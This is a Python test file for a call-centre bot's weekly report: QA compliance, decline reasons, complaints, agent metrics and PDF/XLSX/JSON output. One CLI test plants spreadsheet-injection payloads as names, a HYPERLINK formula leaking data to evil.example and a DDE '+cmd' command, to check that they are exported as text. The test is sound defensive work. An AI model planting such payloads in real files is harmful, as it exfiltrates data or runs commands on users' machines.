"""The weekly client summary (issue 15 item 7) on the seeded database (seeding.py: ISO week
47, 16-22 November 2026, Asia/Shanghai) with QA reviews, samples, complaints and an agent's
days added; every expected number is worked out by hand below."""

from __future__ import annotations

import json
import subprocess
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main
from bot.reports.period import period_bounds
from bot.reports.weekly import format_weekly, weekly_figures
from bot.store import CallRepo, CampaignRepo, ContactRepo, Database
from bot.store.models import (
    QA_RULES,
    AgentStateChange,
    Call,
    Complaint,
    Contact,
    DncEntry,
    Escalation,
    EscalationOffer,
    QaReview,
    QaRuleResult,
    QaSample,
    QaSampleCall,
)

from ..agents.seeding import add_agent
from .seeding import Seeded, local, seed

NOW = local(23, "12:00")  # the Monday after: the week is over


def call_of(session: Any, who: str) -> str:
    return session.scalar(select(Call.id).join(Contact, Contact.id == Call.contact_id)
                          .where(Contact.phone == Seeded.phone(who)))


def review(session: Any, who: str, at: datetime, compliant: bool,
           failed: tuple[str, ...] | None = ()) -> None:
    """A review of *who*'s call; *failed*: the rules it failed (None: no scorecard)."""
    row = QaReview(call_id=call_of(session, who), reviewer="qa", compliant=compliant,
                   created_at=at)
    session.add(row)
    session.flush()
    if failed is not None:
        session.add_all(QaRuleResult(review_id=row.id, rule=rule, passed=rule not in failed,
                                     points=0 if rule in failed else 20, max_points=20)
                        for rule in QA_RULES)


def sample(session: Any, campaign_id: int, kind: str, first: date, *who: str) -> None:
    drawn = QaSample(campaign_id=campaign_id, kind=kind, period_start=first,
                     period_end=first + timedelta(days=6 if kind == "weekly" else 0),
                     timezone="Asia/Shanghai", rule={}, population_size=9, eligible_size=9,
                     population_sha256="0" * 64, nonce="0" * 64, seed="0" * 64,
                     drawn_at=NOW, drawn_by="test")
    session.add(drawn)
    session.flush()
    session.add_all(QaSampleCall(sample_id=drawn.id, call_id=call_of(session, w), position=i,
                                 reason="random") for i, w in enumerate(who))


def complaint(session: Any, campaign_id: int, at: datetime, **fields: Any) -> None:
    contact_id = session.scalar(select(Contact.id).where(Contact.phone == Seeded.phone("m8")))
    session.add(Complaint(**{
        "campaign_id": campaign_id, "contact_id": contact_id, "source": "agent",
        "words": "别再打了我要投诉", "severity": "low", "status": "new", "created_at": at,
        "created_by": "agent", "contact_due_at": at + timedelta(hours=4),
        "resolve_due_at": at + timedelta(days=2), "blacklist_policy": "immediately",
        **fields}))


def entry_of(session: Any, who: str) -> int:
    """The id of *who*'s blacklist entry (seeding.py: m8's stands, m4's was removed)."""
    found = session.scalar(select(DncEntry.id).where(DncEntry.phone == Seeded.phone(who)))
    assert found is not None
    return int(found)


def state(session: Any, agent: int, seq: int, at: datetime, to: str, event: str) -> None:
    session.add(AgentStateChange(agent_id=agent, seq=seq, at=at, from_state="offline",
                                 to_state=to, event=event))


@pytest.fixture
def seeded(db: Database) -> Seeded:
    return seed_week(db)


def seed_week(db: Database) -> Seeded:
    """seeding.py's database with the week's QA reviews, samples, complaints and agent."""
    seeded = seed(db)
    with db.session() as session:
        marketing = CampaignRepo(session).by_name(seeded.marketing)
        assert marketing is not None
        mid = marketing.id
        # m1: compliant on the 19th, then non-compliant on the 20th (the latest counts);
        # m6 compliant; m2 an instant fail (every rule passed); m3 from the command line
        # (no scorecard); m4's review is of the week before.
        review(session, "m1", local(19, "10:00"), True)
        review(session, "m1", local(20, "10:00"), False, ("approved_script",))
        review(session, "m6", local(19, "11:00"), True)
        review(session, "m2", local(19, "12:00"), False)
        review(session, "m3", local(19, "13:00"), True, None)
        review(session, "m4", local(13, "13:00"), False, ("right_person",))
        sample(session, mid, "daily", date(2026, 11, 18), "m1", "m2")
        sample(session, mid, "weekly", date(2026, 11, 16), "m6", "m1")
        sample(session, mid, "daily", date(2026, 11, 13), "m3")  # the week before
        complaint(session, mid, local(18, "15:52"), call_id=call_of(session, "m8"),
                  source="call", severity="high", status="resolved",
                  contacted_at=local(18, "16:30"), contacted_by="sup",
                  resolved_at=local(21, "10:00"), resolved_by="sup", root_cause="people",
                  decision="serious", decided_by="sup", decided_at=local(18, "17:00"),
                  blacklist_entry_id=entry_of(session, "m8"))
        # Never contacted: overdue; the blacklist it applied was lifted (m4's, removed).
        complaint(session, mid, local(19, "09:00"), blacklist_entry_id=entry_of(session, "m4"))
        complaint(session, mid, local(12, "09:00"))  # the week before
        # One agent on two days: 18th 19:00-20:00 with one call (offered 19:30:50, taken
        # 19:31, 5 min talk, 1 min wrap-up); 19th 09:00-10:00 idle.
        agent = add_agent(session, "li")
        steps = [(18, "19:00", "available", "log_in"), (18, "19:31", "on_call", "accept"),
                 (18, "19:36", "wrap_up", "call_ended"),
                 (18, "19:37", "available", "wrap_up_done"),
                 (18, "20:00", "offline", "log_out"), (19, "09:00", "available", "log_in"),
                 (19, "10:00", "offline", "log_out")]
        for seq, (day, hhmm, to, event) in enumerate(steps, 1):
            state(session, agent, seq, local(day, hhmm), to, event)
        # The agent took m1's call (QA found it non-compliant): an escalation of it.
        m1 = session.get(Call, call_of(session, "m1"))
        assert m1 is not None
        escalation = Escalation(call_id=m1.id, campaign_id=mid, contact_id=m1.contact_id,
                                reason="request_human", context={}, status="bridged",
                                created_at=local(18, "09:12"))
        session.add(escalation)
        session.flush()
        session.add(EscalationOffer(
            escalation_id=escalation.id, agent_id=agent,
            offered_at=local(18, "19:31") - timedelta(seconds=10),
            answered_at=local(18, "19:31"), outcome="accepted", strategy="equal_share",
            reason="test", snapshot={}))
    return seeded


def weekly(db: Database, campaign: str | None) -> dict[str, Any]:
    start, end = period_bounds("weekly", date(2026, 11, 18))
    with db.session() as session:
        found = CampaignRepo(session).by_name(campaign) if campaign else None
        return weekly_figures(session, campaign=found, start=start, end=end,
                              tz="Asia/Shanghai", now=NOW)


def test_weekly_summary_of_one_campaign(db: Database, seeded: Seeded) -> None:
    fig = weekly(db, seeded.marketing)
    assert (fig["label"], fig["report"]) == ("2026-W47", "weekly_summary")
    # m1's and m6's consents are in the ledger; QA found m1's non-compliant.
    assert fig["sales"] == {"ledger": 2, "reviewed": 2, "non_compliant": 1, "valid": 1}
    assert fig["totals"]["valid_sales"] == fig["sales"]["valid"]
    assert fig["totals"]["calls"] == 24 and fig["totals"]["connect_rate"] == 0.625
    qa = fig["qa"]
    assert {k: v for k, v in qa.items() if k != "by_rule"} == {
        "sampled": 3, "reviewed": 4, "compliant": 2, "non_compliant": 2,
        "compliance_rate": 0.5, "instant_fails": 1, "without_scorecard": 1}
    rules = {r["rule"]: r for r in qa["by_rule"]}
    assert rules["approved_script"] == {"rule": "approved_script", "reviewed": 3,
                                        "passed": 2, "failed": 1, "pass_rate": 0.6667,
                                        "points_share": 0.6667}
    assert rules["right_person"]["passed"] == 3 and rules["right_person"]["failed"] == 0
    # m2, m5, m14 too_expensive; m3 distrust; m4 not_needed; m11 other.
    assert [(r["reason"], r["count"]) for r in fig["decline_reasons"]] == [
        ("too_expensive", 3), ("distrust", 1), ("not_needed", 1), ("other", 1)]
    assert fig["decline_reasons"][0]["share"] == 0.5
    comp = fig["complaint_handling"]
    assert comp["recorded"] == 2
    # the rows by day count the same records: a resolved one on the 18th, a new one the 19th
    assert fig["totals"]["complaints"]["recorded"] == 2
    assert [(d["date"], d["complaints"]["recorded"], d["complaints"]["unresolved"])
            for d in fig["days"] if d["complaints"]["recorded"]] == [
        ("2026-11-18", 1, 0), ("2026-11-19", 1, 1)]
    assert comp["by_status"] == {"new": 1, "contacted": 0, "resolved": 1}
    assert comp["by_severity"] == {"low": 1, "medium": 0, "high": 1}
    assert comp["by_root_cause"] == {"value": 0, "system": 0, "people": 1, "unknown": 1}
    assert comp["by_decision"] == {"serious": 1, "not_serious": 0, "undecided": 1}
    # contacted within 4 h; resolved on the 21st, a day after its 2-day deadline.
    assert (comp["blacklisted"], comp["blacklist_lifted"], comp["contacted_on_time"],
            comp["resolved_on_time"], comp["overdue_now"]) == (1, 1, 1, 0, 1)
    [li] = fig["agents"]["agents"]
    assert (li["agent"], li["days"], li["accepted"], li["talk_s"], li["after_call_work_s"],
            li["staffed_s"]) == ("li", 2, 1, 300.0, 60.0, 7200.0)
    assert (li["occupancy"], li["calls_per_hour"], li["handle_mean_s"],
            li["service_level"], li["first_call_resolution"]) == (0.05, 0.5, 360.0, 1.0, 1.0)
    assert (li["qa_reviewed"], li["qa_compliant"], li["qa_compliance"]) == (1, 0, 0.0)
    team = fig["agents"]["team"]
    assert (team["agents"], team["accepted"], team["qa_reviewed"]) == (1, 1, 1)
    text = format_weekly(fig)
    assert "质检不合规 non-compliant 1, 有效 valid 1" in text
    assert "规范话术 Approved script: 通过 passed 2/3" in text


def test_weekly_summary_of_every_campaign(db: Database, seeded: Seeded) -> None:
    fig = weekly(db, None)
    # seed-confirm's keep is a third ledger sale; its cancel a decline without a reason.
    assert fig["sales"] == {"ledger": 3, "reviewed": 2, "non_compliant": 1, "valid": 2}
    assert fig["totals"]["valid_sales"] == 2
    assert [(r["reason"], r["count"]) for r in fig["decline_reasons"]] == [
        ("too_expensive", 3), ("other", 2), ("distrust", 1), ("not_needed", 1)]


def test_an_empty_week(db: Database, seeded: Seeded) -> None:
    with db.session() as session:
        fig = weekly_figures(session, campaign=None, start=date(2026, 11, 30),
                             end=date(2026, 12, 6), tz="Asia/Shanghai", now=NOW)
    assert fig["qa"]["reviewed"] == 0 and fig["qa"]["compliance_rate"] is None
    assert all(r["pass_rate"] is None for r in fig["qa"]["by_rule"])
    assert fig["agents"] == {"agents": [], "team": fig["agents"]["team"]}
    assert fig["agents"]["team"]["agents"] == 0  # a week not begun: no day counted
    assert fig["complaint_handling"]["recorded"] == 0


# --- waihu report --period weekly ----------------------------------------------------------


def test_cli_weekly_pdf_xlsx_and_text(sqlite_db: Database, tmp_path: Path,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    seed_week(sqlite_db)
    with sqlite_db.session() as session:  # names from outside that look like formulas
        agent = add_agent(session, '=HYPERLINK("http://evil.example/?"&A1)')
        state(session, agent, 1, local(20, "09:00"), "available", "log_in")
        state(session, agent, 2, local(20, "09:30"), "offline", "log_out")
        campaign = CampaignRepo(session).add("+cmd|' /C calc'!A0", "marketing",
                                             {"timezone": "Asia/Shanghai"}, "d" * 64)
        contact = ContactRepo(session).add(campaign.id, "13500000001")
        calls = CallRepo(session)
        attempt = calls.start_attempt(campaign.id, contact.id, at=local(20, "10:00"))
        calls.set_dial_result(attempt.call_id, "busy", at=local(20, "10:00"))
    url = str(sqlite_db.engine.url)

    def report(*args: str) -> tuple[int, str, str]:
        code = main(["--database", url, "report", "--period", "weekly", *args])
        out, err = capsys.readouterr()
        return code, out, err

    pdf, xlsx = tmp_path / "w.pdf", tmp_path / "w.xlsx"
    assert report("--week", "2026-W47", "--format", "pdf", "--output", str(pdf))[0] == 0
    text = pdf_text(pdf)
    for label in ("客户周报 2026-W47", "质检结果（按规则）", "规范话术 Approved script",
                  "拒绝原因", "投诉与处理", "坐席业绩", "价格太高"):
        assert label in text, label
    code, out, _ = report("--from", "2026-11-16", "--to", "2026-11-22", "--format", "xlsx",
                          "--output", str(xlsx))
    assert code == 0 and out.strip() == str(xlsx)
    book = load_workbook(xlsx)
    assert book.sheetnames == ["汇总", "质检结果（按规则）", "拒绝原因", "投诉与处理",
                               "坐席业绩（全部活动）", "按日", "按活动", "图表"]
    rules = {row[0]: row[1:] for row in book["质检结果（按规则）"].iter_rows(
        min_row=4, values_only=True)}
    assert rules["规范话术 Approved script"][:3] == (3, 2, 1)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    assert {c.value for c in cells} == {'=HYPERLINK("http://evil.example/?"&A1)',
                                       "+cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" for c in cells)  # text, never a formula
    code, out, _ = report("--campaign", "seed-marketing", "--week", "2026-W47")
    assert code == 0 and out.startswith("周报 2026-W47") and "seed-marketing" in out
    assert "质检不合规 non-compliant 1, 有效 valid 1" in out
    code, out, _ = report("--week", "2026-W47", "--format", "json")
    assert code == 0 and json.loads(out)["qa"]["reviewed"] == 4


def pdf_text(path: Path) -> str:
    found = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                           text=True, check=True)
    return found.stdout


@pytest.mark.parametrize(("args", "message"), [
    (["--period", "daily", "--week", "2026-W47"], "apply to --period weekly"),
    (["--period", "weekly", "--week", "2026-W47", "--from", "2026-11-16"], "one of them"),
    (["--period", "weekly", "--from", "2026-11-16"], "--from and --to go together"),
    (["--period", "weekly", "--from", "2026-11-22", "--to", "2026-11-16"], "is before"),
    (["seed-survey", "--campaign", "seed-marketing", "--period", "weekly"], "name the "
     "campaign once"),
    (["--period", "daily"], "name one campaign, or use --all"),
])
def test_cli_weekly_refusals(args: list[str], message: str, sqlite_db: Database,
                             capsys: pytest.CaptureFixture[str]) -> None:
    seed(sqlite_db)
    assert main(["--database", str(sqlite_db.engine.url), "report", *args]) == 2
    assert message in capsys.readouterr().err


def test_cli_refuses_a_bad_week(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["report", "--period", "weekly", "--week", "2026-W60"])
    assert "not an ISO week" in capsys.readouterr().err
